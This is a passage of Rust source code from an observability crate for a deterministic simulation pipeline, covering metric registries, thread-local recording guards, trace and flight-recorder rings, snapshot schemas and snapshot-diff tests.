        if let Some(hb) = b.host.latency.get(k) {
            volatile(
                format!("latency `{k}` mean: {:.0}ns vs {:.0}ns", ha.mean(), hb.mean()),
                rel(ha.mean() as u64, hb.mean() as u64),
            );
        }
    }
    d
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::metrics::MetricRegistry;

    fn snap(seed: u64) -> MetricsSnapshot {
        let mut reg = MetricRegistry::new();
        reg.count("net.events_processed", "", 1000 + seed);
        reg.gauge_max("net.conns_live", "", 17);
        reg.observe("net.udp_payload_bytes", "", 120);
        let mut s = MetricsSnapshot::from_registry(seed, 16, "quick", &reg, vec![1; 16]);
        s.host.workers = 4;
        s.host.pool_hits = 500;
        s
    }

    #[test]
    fn identical_snapshots_are_clean() {
        let a = snap(7);
        let mut b = snap(7);
        b.host.workers = 8; // volatile: must not fail
        b.host.pool_hits = 620;
        let d = diff_snapshots(&a, &b, &DiffOptions::default());
        assert!(d.clean(), "unexpected drift: {}", d.render());
        assert!(d.render().contains("identical"));
        assert!(!d.volatile_notes.is_empty(), "volatile differences are still reported");
    }

    #[test]
    fn counter_drift_is_deterministic_failure() {
        let a = snap(7);
        let mut b = snap(7);
        *b.counters.get_mut("net.events_processed").unwrap() += 1;
        let d = diff_snapshots(&a, &b, &DiffOptions::default());
        assert!(!d.clean());
        assert!(d.render().contains("net.events_processed"));
    }

    #[test]
    fn missing_key_and_identity_drift_detected() {
        let a = snap(7);
        let mut b = snap(7);
        b.counters.remove("net.events_processed");
        b.preset = "standard".into();
        let d = diff_snapshots(&a, &b, &DiffOptions::default());
        assert!(d.deterministic.iter().any(|l| l.contains("missing")));
        assert!(d.deterministic.iter().any(|l| l.contains("preset")));
    }

    #[test]
    fn histogram_drift_detected() {
        let a = snap(7);
        let mut b = snap(7);
        b.histograms.get_mut("net.udp_payload_bytes").unwrap().sum += 5;
        let d = diff_snapshots(&a, &b, &DiffOptions::default());
        assert!(!d.clean());
        assert!(d.render().contains("net.udp_payload_bytes"));
    }

    #[test]
    fn volatile_threshold_gates_only_when_asked() {
        let a = snap(7);
        let mut b = snap(7);
        b.host.pool_hits = a.host.pool_hits * 10;
        assert!(diff_snapshots(&a, &b, &DiffOptions::default()).clean());
        let gated = diff_snapshots(&a, &b, &DiffOptions { volatile_pct: Some(0.25) });
        assert!(!gated.clean());
        assert!(gated.render().contains("VOLATILE-EXCEEDED"));
    }

    #[test]
    fn different_seeds_flagged() {
        let d = diff_snapshots(&snap(7), &snap(8), &DiffOptions::default());
        assert!(d.deterministic.iter().any(|l| l.starts_with("seed")));
    }
}
