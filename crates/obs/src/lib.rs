//! # ofh-obs — deterministic observability for the openforhire pipeline
//!
//! Three instruments, one determinism contract:
//!
//! 1. **Metrics** ([`MetricRegistry`]) — counters, high-water gauges, and
//!    log-linear histograms. Each shard owns a private registry; registries
//!    merge order-independently at the join barrier, so the merged metrics
//!    are byte-stable across `--workers 1/2/4/8/16`.
//! 2. **Tracing** ([`TraceRing`], [`TraceLog`], [`Span`]) — spans keyed on
//!    *sim-time*, recorded into a bounded per-shard ring and merged into one
//!    canonical stream, emitted as JSONL via `--trace-out`.
//! 3. **Self-profiling** ([`ProfileNode`], [`Stopwatch`]) — scoped
//!    wall-clock timers building a stage → shard → phase tree with an
//!    explicit `wall_ns` / `cpu_ns` split.
//!
//! ## Recording model
//!
//! Instrumented code calls the free functions ([`count`], [`observe`],
//! [`span`], …), which record into whatever [`ShardObs`] is *installed* on
//! the current thread — and no-op when none is. The pipeline installs one
//! `ShardObs` per shard for the duration of that shard's simulation (shards
//! never migrate threads mid-run), plus one on the coordinator thread for
//! setup/merge/analysis-stage metrics. Unit tests and benches that never
//! call [`install`] therefore run fully un-instrumented.
//!
//! Nothing here may perturb the simulation: recording takes no RNG draws,
//! never reorders events, and reads no wall clock on the recording path.
//! The *only* wall-clock reads live in [`Stopwatch`], whose results feed the
//! profile tree — explicitly outside the determinism contract.

pub mod metrics;
pub mod profile;
pub mod snapshot;
pub mod trace;

pub use metrics::{bucket_index, bucket_lower_bound, key_string, Histogram, MetricKey, MetricRegistry};
pub use profile::{ProfileNode, Stopwatch};
pub use snapshot::{HistogramSnapshot, HostStats, MetricsSnapshot, SCHEMA_VERSION};
pub use trace::{Span, TraceLog, TraceRing, DEFAULT_TRACE_CAPACITY, TRACE_SCHEMA_VERSION};

use std::cell::RefCell;

use serde::{Deserialize, Serialize};

/// Observability configuration — an execution knob, not a simulation
/// parameter. It is excluded from config serialization (`#[serde(skip)]` at
/// the embedding site) for the same reason `workers` is: two runs differing
/// only in observability settings must produce identical reports.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct ObsConfig {
    /// Master switch. When false nothing is installed and every recording
    /// call is a branch-on-thread-local no-op.
    pub enabled: bool,
    /// Per-shard trace ring capacity (spans kept per shard).
    pub trace_capacity: usize,
}

impl Default for ObsConfig {
    fn default() -> Self {
        ObsConfig {
            enabled: true,
            trace_capacity: DEFAULT_TRACE_CAPACITY,
        }
    }
}

impl ObsConfig {
    /// Fully disabled observability (for overhead benchmarking).
    pub fn disabled() -> ObsConfig {
        ObsConfig {
            enabled: false,
            trace_capacity: DEFAULT_TRACE_CAPACITY,
        }
    }
}

/// One shard's observability state: its private metric registry and trace
/// ring. Also used (with an idle ring) for the coordinator's global stages.
#[derive(Debug, Default)]
pub struct ShardObs {
    pub metrics: MetricRegistry,
    pub trace: TraceRing,
}

impl ShardObs {
    pub fn new(trace_capacity: usize) -> ShardObs {
        ShardObs {
            metrics: MetricRegistry::new(),
            trace: TraceRing::new(trace_capacity),
        }
    }
}

thread_local! {
    /// The `ShardObs` recording calls on this thread write into, if any.
    static CURRENT: RefCell<Option<ShardObs>> = const { RefCell::new(None) };
}

/// Install `obs` as this thread's recording target until the returned guard
/// is [`finish`](ObsGuard::finish)ed (which returns the populated `ShardObs`)
/// or dropped. Installs nest: the previous target (if any) is saved and
/// restored, so a single-worker run can interleave shard recording with the
/// coordinator's own.
#[must_use = "dropping the guard discards the recorded data; call finish()"]
pub fn install(obs: ShardObs) -> ObsGuard {
    let prev = CURRENT.with(|c| c.borrow_mut().replace(obs));
    ObsGuard { prev: Some(prev), done: false }
}

/// Guard for an [`install`]; restores the previously installed target.
#[derive(Debug)]
pub struct ObsGuard {
    /// What was installed before us (restored on finish/drop). `None` after
    /// finish.
    prev: Option<Option<ShardObs>>,
    done: bool,
}

impl ObsGuard {
    /// Uninstall, restore the previous target, and hand back the recorded
    /// data.
    pub fn finish(mut self) -> ShardObs {
        self.done = true;
        let prev = self.prev.take().unwrap_or(None);
        CURRENT.with(|c| {
            let mut slot = c.borrow_mut();
            let cur = slot.take().expect("ObsGuard::finish: nothing installed");
            *slot = prev;
            cur
        })
    }
}

impl Drop for ObsGuard {
    fn drop(&mut self) {
        if !self.done {
            let prev = self.prev.take().unwrap_or(None);
            CURRENT.with(|c| *c.borrow_mut() = prev);
        }
    }
}

/// Is a recording target installed on this thread?
#[inline]
pub fn enabled() -> bool {
    CURRENT.with(|c| c.borrow().is_some())
}

#[inline]
fn with_obs(f: impl FnOnce(&mut ShardObs)) {
    CURRENT.with(|c| {
        if let Ok(mut slot) = c.try_borrow_mut() {
            if let Some(obs) = slot.as_mut() {
                f(obs);
            }
        }
    });
}

/// Increment counter `name` by `n`. No-op when nothing is installed.
#[inline]
pub fn count(name: &'static str, n: u64) {
    with_obs(|o| o.metrics.count(name, "", n));
}

/// Increment labeled counter `name{label}` by `n`.
#[inline]
pub fn count_l(name: &'static str, label: &'static str, n: u64) {
    with_obs(|o| o.metrics.count(name, label, n));
}

/// Raise high-water gauge `name` to at least `v`.
#[inline]
pub fn gauge_max(name: &'static str, v: u64) {
    with_obs(|o| o.metrics.gauge_max(name, "", v));
}

/// Record `v` into histogram `name`.
#[inline]
pub fn observe(name: &'static str, v: u64) {
    with_obs(|o| o.metrics.observe(name, "", v));
}

/// Record `v` into labeled histogram `name{label}`.
#[inline]
pub fn observe_l(name: &'static str, label: &'static str, v: u64) {
    with_obs(|o| o.metrics.observe(name, label, v));
}

/// Fold a locally-accumulated histogram into `name`. The batched form of
/// [`observe`] for hot paths: per-sample code records into a private
/// [`Histogram`] it owns (one bucket bump, no thread-local access, no key
/// lookup), and flushes here once per phase.
pub fn observe_hist(name: &'static str, h: &Histogram) {
    with_obs(|o| o.metrics.absorb_histogram(name, "", h));
}

/// Record a tracing span. `seq` is assigned by the ring; pass 0.
#[inline]
#[allow(clippy::too_many_arguments)]
pub fn span(
    kind: &'static str,
    label: &'static str,
    start_ms: u64,
    end_ms: u64,
    src: u32,
    dst: u32,
    port: u16,
    bytes: u32,
) {
    with_obs(|o| {
        o.trace.push(Span {
            start_ms,
            end_ms,
            kind,
            label,
            src,
            dst,
            port,
            bytes,
            seq: 0,
        })
    });
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn recording_is_noop_without_install() {
        // Must not panic or leak state.
        count("x", 1);
        observe_l("h", "l", 5);
        span("k", "l", 1, 2, 0, 0, 0, 0);
        assert!(!enabled());
    }

    #[test]
    fn install_captures_and_finish_returns() {
        let guard = install(ShardObs::new(8));
        assert!(enabled());
        count("probes", 3);
        count("probes", 4);
        gauge_max("depth", 9);
        observe("bytes", 100);
        span("scan.probe", "telnet", 10, 11, 1, 2, 23, 4);
        let obs = guard.finish();
        assert!(!enabled());
        assert_eq!(obs.metrics.counter("probes", ""), 7);
        assert_eq!(obs.metrics.gauge("depth", ""), 9);
        assert_eq!(obs.metrics.histogram("bytes", "").unwrap().count, 1);
        assert_eq!(obs.trace.emitted(), 1);
    }

    #[test]
    fn installs_nest_and_restore() {
        let outer = install(ShardObs::new(8));
        count("outer", 1);
        {
            let inner = install(ShardObs::new(8));
            count("inner", 1);
            let got = inner.finish();
            assert_eq!(got.metrics.counter("inner", ""), 1);
            assert_eq!(got.metrics.counter("outer", ""), 0);
        }
        // Outer target restored; keeps accumulating.
        count("outer", 1);
        let got = outer.finish();
        assert_eq!(got.metrics.counter("outer", ""), 2);
        assert_eq!(got.metrics.counter("inner", ""), 0);
        assert!(!enabled());
    }

    #[test]
    fn dropped_guard_restores_previous() {
        let outer = install(ShardObs::new(8));
        {
            let _inner = install(ShardObs::new(8));
            count("lost", 1);
            // _inner dropped without finish: data discarded, outer restored.
        }
        count("kept", 1);
        let got = outer.finish();
        assert_eq!(got.metrics.counter("kept", ""), 1);
        assert_eq!(got.metrics.counter("lost", ""), 0);
    }

    #[test]
    fn obs_config_default_and_disabled() {
        let d = ObsConfig::default();
        assert!(d.enabled);
        assert_eq!(d.trace_capacity, DEFAULT_TRACE_CAPACITY);
        assert!(!ObsConfig::disabled().enabled);
    }
}
