//! # ofh-obs — deterministic observability for the openforhire pipeline
//!
//! Three instruments, one determinism contract:
//!
//! 1. **Metrics** ([`MetricRegistry`]) — counters, high-water gauges, and
//!    log-linear histograms. Each shard owns a private registry; registries
//!    merge order-independently at the join barrier, so the merged metrics
//!    are byte-stable across `--workers 1/2/4/8/16`.
//! 2. **Tracing** ([`TraceRing`], [`TraceLog`], [`Span`]) — spans keyed on
//!    *sim-time*, recorded into a bounded per-shard ring and merged into one
//!    canonical stream, emitted as JSONL via `--trace-out`.
//! 3. **Self-profiling** ([`ProfileNode`], [`Stopwatch`]) — scoped
//!    wall-clock timers building a stage → shard → phase tree with an
//!    explicit `wall_ns` / `cpu_ns` split.
//!
//! v2 adds three *explicitly volatile* companions, quarantined from the
//! deterministic artifacts exactly like the host section of the snapshot:
//!
//! 4. **Live telemetry** ([`live`]) — lock-free per-shard progress cells
//!    sampled by a reporter thread into heartbeat lines and an optional
//!    `--live-out` JSONL stream.
//! 5. **Flight recorder** ([`recorder`]) — a bounded per-shard ring of
//!    recent activity, dumped to `flight-<shard>.jsonl` by the panic hook
//!    or at chaos-engine fault windows.
//! 6. **Regression sentinel** ([`diff`]) — cross-run snapshot diffing
//!    behind `openforhire obsdiff`: exact on deterministic sections,
//!    threshold on volatile ones.
//!
//! ## Recording model
//!
//! Instrumented code calls the free functions ([`count`], [`observe`],
//! [`span`], …), which record into whatever [`ShardObs`] is *installed* on
//! the current thread — and no-op when none is. The pipeline installs one
//! `ShardObs` per shard for the duration of that shard's simulation (shards
//! never migrate threads mid-run), plus one on the coordinator thread for
//! setup/merge/analysis-stage metrics. Unit tests and benches that never
//! call [`install`] therefore run fully un-instrumented.
//!
//! Nothing here may perturb the simulation: recording takes no RNG draws,
//! never reorders events, and reads no wall clock on the recording path.
//! The *only* wall-clock reads live in [`Stopwatch`], whose results feed the
//! profile tree — explicitly outside the determinism contract.

pub mod diff;
pub mod live;
pub mod metrics;
pub mod profile;
pub mod recorder;
pub mod snapshot;
pub mod trace;

pub use diff::{diff_snapshots, DiffOptions, SnapshotDiff};
pub use live::{LiveProgress, LiveSample, Reporter, ReporterOptions, DEFAULT_HEARTBEAT_MS};
pub use metrics::{
    bucket_index, bucket_lower_bound, key_string, AtomicHistogram, Histogram, MetricKey,
    MetricRegistry,
};
pub use profile::{ProfileNode, Stopwatch};
pub use recorder::{
    install_panic_hook, FlightEvent, FlightRecorder, DEFAULT_FLIGHT_CAPACITY,
    FLIGHT_SCHEMA_VERSION,
};
pub use snapshot::{HistogramSnapshot, HostStats, MetricsSnapshot, SCHEMA_VERSION};
pub use trace::{Span, TraceLog, TraceRing, DEFAULT_TRACE_CAPACITY, TRACE_SCHEMA_VERSION};

use std::cell::RefCell;
use std::path::PathBuf;

use serde::{Deserialize, Serialize};

/// Shard id used for the coordinator thread's `ShardObs` (setup / merge /
/// analysis stages) — its flight dump, if any, is `flight-main.jsonl`.
pub const COORDINATOR_SHARD: u32 = u32::MAX;

/// Observability configuration — an execution knob, not a simulation
/// parameter. It is excluded from config serialization (`#[serde(skip)]` at
/// the embedding site) for the same reason `workers` is: two runs differing
/// only in observability settings must produce identical reports.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct ObsConfig {
    /// Master switch. When false nothing is installed and every recording
    /// call is a branch-on-thread-local no-op.
    pub enabled: bool,
    /// Per-shard trace ring capacity (spans kept per shard).
    pub trace_capacity: usize,
    /// Emit periodic `[live]` heartbeat lines to stderr while a study runs.
    pub heartbeat: bool,
    /// Heartbeat/live-stream sampling interval in wall-clock milliseconds.
    pub heartbeat_ms: u64,
    /// When set, stream live telemetry samples as JSONL to this path
    /// (volatile artifact: wall-clock sampled, never byte-compared).
    pub live_out: Option<String>,
    /// When set, flight-recorder dumps (`flight-<shard>.jsonl`) land in
    /// this directory and the process panic hook is armed.
    pub flight_dir: Option<String>,
    /// Per-shard flight-recorder ring capacity (events kept per shard).
    pub flight_capacity: usize,
}

impl Default for ObsConfig {
    fn default() -> Self {
        ObsConfig {
            enabled: true,
            trace_capacity: DEFAULT_TRACE_CAPACITY,
            heartbeat: false,
            heartbeat_ms: DEFAULT_HEARTBEAT_MS,
            live_out: None,
            flight_dir: None,
            flight_capacity: DEFAULT_FLIGHT_CAPACITY,
        }
    }
}

impl ObsConfig {
    /// Fully disabled observability (for overhead benchmarking).
    pub fn disabled() -> ObsConfig {
        ObsConfig {
            enabled: false,
            ..ObsConfig::default()
        }
    }

    /// Is any live-telemetry output (heartbeat or JSONL stream) requested?
    pub fn live_requested(&self) -> bool {
        self.enabled && (self.heartbeat || self.live_out.is_some())
    }
}

/// One shard's observability state: its private metric registry, trace
/// ring, and flight-recorder ring. Also used (with idle rings) for the
/// coordinator's global stages.
///
/// The flight-dump directory lives *here*, per installed `ShardObs`, not in
/// process-global state: parallel tests run whole studies concurrently, and
/// a global dump directory would let one test's panic scribble into
/// another's artifacts.
#[derive(Debug, Default)]
pub struct ShardObs {
    pub metrics: MetricRegistry,
    pub trace: TraceRing,
    pub flight: FlightRecorder,
    /// Which shard this state belongs to ([`COORDINATOR_SHARD`] for the
    /// coordinator thread). Names the flight dump file.
    pub shard: u32,
    /// Where this shard's flight dumps go; `None` disables dumping.
    pub flight_dir: Option<PathBuf>,
}

impl ShardObs {
    pub fn new(trace_capacity: usize) -> ShardObs {
        ShardObs {
            metrics: MetricRegistry::new(),
            trace: TraceRing::new(trace_capacity),
            flight: FlightRecorder::default(),
            shard: COORDINATOR_SHARD,
            flight_dir: None,
        }
    }

    /// The full-fat constructor used by the study loop: shard identity plus
    /// every capacity/path knob from the config.
    pub fn for_shard(shard: u32, cfg: &ObsConfig) -> ShardObs {
        ShardObs {
            metrics: MetricRegistry::new(),
            trace: TraceRing::new(cfg.trace_capacity),
            flight: FlightRecorder::new(cfg.flight_capacity),
            shard,
            flight_dir: cfg.flight_dir.as_ref().map(PathBuf::from),
        }
    }
}

thread_local! {
    /// The `ShardObs` recording calls on this thread write into, if any.
    static CURRENT: RefCell<Option<ShardObs>> = const { RefCell::new(None) };
}

/// Install `obs` as this thread's recording target until the returned guard
/// is [`finish`](ObsGuard::finish)ed (which returns the populated `ShardObs`)
/// or dropped. Installs nest: the previous target (if any) is saved and
/// restored, so a single-worker run can interleave shard recording with the
/// coordinator's own.
#[must_use = "dropping the guard discards the recorded data; call finish()"]
pub fn install(obs: ShardObs) -> ObsGuard {
    let prev = CURRENT.with(|c| c.borrow_mut().replace(obs));
    ObsGuard { prev: Some(prev), done: false }
}

/// Guard for an [`install`]; restores the previously installed target.
#[derive(Debug)]
pub struct ObsGuard {
    /// What was installed before us (restored on finish/drop). `None` after
    /// finish.
    prev: Option<Option<ShardObs>>,
    done: bool,
}

impl ObsGuard {
    /// Uninstall, restore the previous target, and hand back the recorded
    /// data.
    pub fn finish(mut self) -> ShardObs {
        self.done = true;
        let prev = self.prev.take().unwrap_or(None);
        CURRENT.with(|c| {
            let mut slot = c.borrow_mut();
            let cur = slot.take().expect("ObsGuard::finish: nothing installed");
            *slot = prev;
            cur
        })
    }
}

impl Drop for ObsGuard {
    fn drop(&mut self) {
        if !self.done {
            let prev = self.prev.take().unwrap_or(None);
            CURRENT.with(|c| *c.borrow_mut() = prev);
        }
    }
}

/// Is a recording target installed on this thread?
#[inline]
pub fn enabled() -> bool {
    CURRENT.with(|c| c.borrow().is_some())
}

#[inline]
fn with_obs(f: impl FnOnce(&mut ShardObs)) {
    CURRENT.with(|c| {
        if let Ok(mut slot) = c.try_borrow_mut() {
            if let Some(obs) = slot.as_mut() {
                f(obs);
            }
        }
    });
}

/// Increment counter `name` by `n`. No-op when nothing is installed.
#[inline]
pub fn count(name: &'static str, n: u64) {
    with_obs(|o| o.metrics.count(name, "", n));
}

/// Increment labeled counter `name{label}` by `n`.
#[inline]
pub fn count_l(name: &'static str, label: &'static str, n: u64) {
    with_obs(|o| o.metrics.count(name, label, n));
}

/// Raise high-water gauge `name` to at least `v`.
#[inline]
pub fn gauge_max(name: &'static str, v: u64) {
    with_obs(|o| o.metrics.gauge_max(name, "", v));
}

/// Record `v` into histogram `name`.
#[inline]
pub fn observe(name: &'static str, v: u64) {
    with_obs(|o| o.metrics.observe(name, "", v));
}

/// Record `v` into labeled histogram `name{label}`.
#[inline]
pub fn observe_l(name: &'static str, label: &'static str, v: u64) {
    with_obs(|o| o.metrics.observe(name, label, v));
}

/// Fold a locally-accumulated histogram into `name`. The batched form of
/// [`observe`] for hot paths: per-sample code records into a private
/// [`Histogram`] it owns (one bucket bump, no thread-local access, no key
/// lookup), and flushes here once per phase.
pub fn observe_hist(name: &'static str, h: &Histogram) {
    with_obs(|o| o.metrics.absorb_histogram(name, "", h));
}

/// Record a tracing span. `seq` is assigned by the ring; pass 0.
#[inline]
#[allow(clippy::too_many_arguments)]
pub fn span(
    kind: &'static str,
    label: &'static str,
    start_ms: u64,
    end_ms: u64,
    src: u32,
    dst: u32,
    port: u16,
    bytes: u32,
) {
    with_obs(|o| {
        o.trace.push(Span {
            start_ms,
            end_ms,
            kind,
            label,
            src,
            dst,
            port,
            bytes,
            seq: 0,
        });
        // Spans double as flight-recorder entries: the ring then holds the
        // shard's most recent activity when a panic or fault-window dump
        // fires, at the cost of one extra ring store.
        o.flight.push(FlightEvent {
            sim_ms: start_ms,
            kind,
            label,
            a: dst as u64,
            b: bytes as u64,
        });
    });
}

/// Record a raw flight-recorder entry (metric delta, fault transition, …)
/// without emitting a tracing span. No-op when nothing is installed.
#[inline]
pub fn flight(sim_ms: u64, kind: &'static str, label: &'static str, a: u64, b: u64) {
    with_obs(|o| o.flight.push(FlightEvent { sim_ms, kind, label, a, b }));
}

/// Dump the current thread's flight ring to
/// `<flight_dir>/flight-<shard>.jsonl` (`flight-main.jsonl` for the
/// coordinator), returning the path written. `None` when no `ShardObs` is
/// installed, no dump directory is configured, or the ring is empty.
///
/// Called by the panic hook (on the panicking thread, so the thread-local
/// state is directly reachable) and by the chaos engine at fault-window
/// transitions.
pub fn dump_flight(reason: &str) -> Option<PathBuf> {
    CURRENT.with(|c| {
        let slot = c.try_borrow().ok()?;
        let obs = slot.as_ref()?;
        let dir = obs.flight_dir.as_ref()?;
        if obs.flight.is_empty() {
            return None;
        }
        let name = if obs.shard == COORDINATOR_SHARD {
            "flight-main.jsonl".to_string()
        } else {
            format!("flight-{:04}.jsonl", obs.shard)
        };
        let path = dir.join(name);
        std::fs::create_dir_all(dir).ok()?;
        std::fs::write(&path, obs.flight.to_jsonl(obs.shard, reason)).ok()?;
        Some(path)
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn recording_is_noop_without_install() {
        // Must not panic or leak state.
        count("x", 1);
        observe_l("h", "l", 5);
        span("k", "l", 1, 2, 0, 0, 0, 0);
        assert!(!enabled());
    }

    #[test]
    fn install_captures_and_finish_returns() {
        let guard = install(ShardObs::new(8));
        assert!(enabled());
        count("probes", 3);
        count("probes", 4);
        gauge_max("depth", 9);
        observe("bytes", 100);
        span("scan.probe", "telnet", 10, 11, 1, 2, 23, 4);
        let obs = guard.finish();
        assert!(!enabled());
        assert_eq!(obs.metrics.counter("probes", ""), 7);
        assert_eq!(obs.metrics.gauge("depth", ""), 9);
        assert_eq!(obs.metrics.histogram("bytes", "").unwrap().count, 1);
        assert_eq!(obs.trace.emitted(), 1);
    }

    #[test]
    fn installs_nest_and_restore() {
        let outer = install(ShardObs::new(8));
        count("outer", 1);
        {
            let inner = install(ShardObs::new(8));
            count("inner", 1);
            let got = inner.finish();
            assert_eq!(got.metrics.counter("inner", ""), 1);
            assert_eq!(got.metrics.counter("outer", ""), 0);
        }
        // Outer target restored; keeps accumulating.
        count("outer", 1);
        let got = outer.finish();
        assert_eq!(got.metrics.counter("outer", ""), 2);
        assert_eq!(got.metrics.counter("inner", ""), 0);
        assert!(!enabled());
    }

    #[test]
    fn dropped_guard_restores_previous() {
        let outer = install(ShardObs::new(8));
        {
            let _inner = install(ShardObs::new(8));
            count("lost", 1);
            // _inner dropped without finish: data discarded, outer restored.
        }
        count("kept", 1);
        let got = outer.finish();
        assert_eq!(got.metrics.counter("kept", ""), 1);
        assert_eq!(got.metrics.counter("lost", ""), 0);
    }

    #[test]
    fn obs_config_default_and_disabled() {
        let d = ObsConfig::default();
        assert!(d.enabled);
        assert_eq!(d.trace_capacity, DEFAULT_TRACE_CAPACITY);
        assert_eq!(d.flight_capacity, DEFAULT_FLIGHT_CAPACITY);
        assert!(!d.heartbeat && d.live_out.is_none() && d.flight_dir.is_none());
        assert!(!d.live_requested(), "live output is opt-in");
        assert!(!ObsConfig::disabled().enabled);
        let live = ObsConfig { heartbeat: true, ..ObsConfig::default() };
        assert!(live.live_requested());
        assert!(!ObsConfig { enabled: false, ..live }.live_requested());
    }

    #[test]
    fn spans_feed_the_flight_ring() {
        let guard = install(ShardObs::for_shard(3, &ObsConfig::default()));
        span("scan.probe", "telnet", 10, 11, 1, 2, 23, 4);
        flight(12, "metric.events", "hour", 500, 0);
        let obs = guard.finish();
        assert_eq!(obs.flight.recorded(), 2);
        let kinds: Vec<&str> = obs.flight.iter_ordered().map(|e| e.kind).collect();
        assert_eq!(kinds, vec!["scan.probe", "metric.events"]);
    }

    #[test]
    fn dump_flight_writes_per_shard_file() {
        let dir = std::env::temp_dir().join(format!("ofh-flight-{}", std::process::id()));
        let cfg = ObsConfig {
            flight_dir: Some(dir.to_string_lossy().into_owned()),
            ..ObsConfig::default()
        };
        // No ShardObs installed: no dump.
        assert!(dump_flight("panic").is_none());
        let guard = install(ShardObs::for_shard(7, &cfg));
        // Empty ring: still no dump.
        assert!(dump_flight("panic").is_none());
        flight(42, "metric.events", "hour", 9, 0);
        let path = dump_flight("fault-window").expect("dump written");
        assert!(path.ends_with("flight-0007.jsonl"));
        let text = std::fs::read_to_string(&path).unwrap();
        assert!(text.contains("\"reason\":\"fault-window\""));
        assert!(text.contains("\"sim_ms\":42"));
        drop(guard.finish());
        std::fs::remove_dir_all(&dir).ok();
    }

    #[test]
    fn panic_hook_dumps_the_panicking_threads_ring() {
        install_panic_hook();
        install_panic_hook(); // idempotent
        let dir = std::env::temp_dir().join(format!("ofh-panic-{}", std::process::id()));
        let cfg = ObsConfig {
            flight_dir: Some(dir.to_string_lossy().into_owned()),
            ..ObsConfig::default()
        };
        let dir2 = dir.clone();
        let handle = std::thread::spawn(move || {
            let _guard = install(ShardObs::for_shard(5, &cfg));
            flight(1, "metric.events", "hour", 1, 0);
            panic!("flight-recorder smoke");
        });
        assert!(handle.join().is_err());
        let dumped = dir2.join("flight-0005.jsonl");
        let text = std::fs::read_to_string(&dumped).expect("panic hook wrote dump");
        assert!(text.contains("\"reason\":\"panic\""));
        std::fs::remove_dir_all(&dir2).ok();
    }
}
