//! The `metrics.json` snapshot: a versioned, serializable view of one run's
//! merged metrics, split into a **deterministic** simulation-domain section
//! and a **volatile** host-domain section.
//!
//! The split is the determinism contract made explicit: everything outside
//! [`MetricsSnapshot::host`] is a pure function of `(seed, config)` —
//! byte-identical across worker counts and across repeated runs. The `host`
//! section (wall-clock profile, payload-pool statistics, worker count)
//! depends on the machine and the scheduler; [`MetricsSnapshot::zero_wall_clock`]
//! blanks it so tests can compare the remainder byte-for-byte.

use std::collections::BTreeMap;

use serde::{Deserialize, Serialize};

use crate::metrics::{bucket_lower_bound, Histogram, MetricRegistry};
use crate::profile::ProfileNode;

/// Version of the snapshot schema. Bump on any change to the serialized
/// shape (field added/removed/renamed, bucket layout change).
///
/// v2: deterministic section gains `preset`; the volatile host section
/// gains `steals` (work-stealing count — scheduler-timing dependent) and
/// `latency` (wall-clock query-latency histograms from the QueryEngine).
pub const SCHEMA_VERSION: u32 = 2;

/// Serializable summary of one histogram.
#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
pub struct HistogramSnapshot {
    pub count: u64,
    pub sum: u64,
    pub min: u64,
    pub max: u64,
    /// `[bucket lower bound, count]` pairs, ascending, touched buckets only.
    pub buckets: Vec<(u64, u64)>,
}

impl HistogramSnapshot {
    pub fn from_histogram(h: &Histogram) -> HistogramSnapshot {
        HistogramSnapshot {
            count: h.count,
            sum: h.sum,
            min: h.min,
            max: h.max,
            buckets: h
                .buckets
                .iter()
                .map(|(&idx, &n)| (bucket_lower_bound(idx), n))
                .collect(),
        }
    }

    pub fn mean(&self) -> f64 {
        if self.count == 0 {
            0.0
        } else {
            self.sum as f64 / self.count as f64
        }
    }
}

/// The machine-dependent part of a snapshot: everything here may differ
/// between two runs of the same seed and MUST NOT be asserted on in
/// determinism tests.
#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
pub struct HostStats {
    /// Resolved worker-thread count of the run.
    pub workers: u64,
    /// Payload buffer pool hits across the process (see `ofh_net::Payload`).
    pub pool_hits: u64,
    /// Payload buffer pool misses.
    pub pool_misses: u64,
    /// Shards executed by work-stealing rather than their home worker.
    /// Depends on scheduler timing, hence volatile.
    pub steals: u64,
    /// Wall-clock profile tree (stage → shard → phase).
    pub profile: ProfileNode,
    /// Wall-clock latency histograms, keyed by operation class (e.g.
    /// `query.host`, `query.range`). Values in nanoseconds.
    pub latency: BTreeMap<String, HistogramSnapshot>,
}

/// A full metrics snapshot, as written to `--metrics-out`.
#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
pub struct MetricsSnapshot {
    /// Always [`SCHEMA_VERSION`] for snapshots this build writes.
    pub schema_version: u32,
    /// The run's master seed.
    pub seed: u64,
    /// The run's shard count (a simulation parameter).
    pub shards: u32,
    /// Name of the preset (or preset family) that configured the run —
    /// deterministic run identity, like `seed` and `shards`.
    pub preset: String,
    /// Counters, keyed `name` or `name{label}`.
    pub counters: BTreeMap<String, u64>,
    /// High-water-mark gauges, merged with `max` across shards.
    pub gauges: BTreeMap<String, u64>,
    /// Log-linear histograms.
    pub histograms: BTreeMap<String, HistogramSnapshot>,
    /// Simulation events processed per shard, indexed by shard.
    pub per_shard_events: Vec<u64>,
    /// Machine-dependent statistics — excluded from the determinism
    /// contract.
    pub host: HostStats,
}

impl MetricsSnapshot {
    /// Build the deterministic sections from a merged registry.
    pub fn from_registry(
        seed: u64,
        shards: u32,
        preset: &str,
        registry: &MetricRegistry,
        per_shard_events: Vec<u64>,
    ) -> MetricsSnapshot {
        MetricsSnapshot {
            schema_version: SCHEMA_VERSION,
            seed,
            shards,
            preset: preset.to_string(),
            counters: registry
                .counters()
                .iter()
                .map(|(k, &v)| (crate::metrics::key_string(k), v))
                .collect(),
            gauges: registry
                .gauges()
                .iter()
                .map(|(k, &v)| (crate::metrics::key_string(k), v))
                .collect(),
            histograms: registry
                .histograms()
                .iter()
                .map(|(k, h)| (crate::metrics::key_string(k), HistogramSnapshot::from_histogram(h)))
                .collect(),
            per_shard_events,
            host: HostStats::default(),
        }
    }

    /// Blank every machine-dependent field (the whole `host` section),
    /// keeping structure: profile node names survive, durations and pool
    /// statistics go to zero. After this, two runs of the same seed must
    /// serialize byte-identically regardless of worker count.
    pub fn zero_wall_clock(&mut self) {
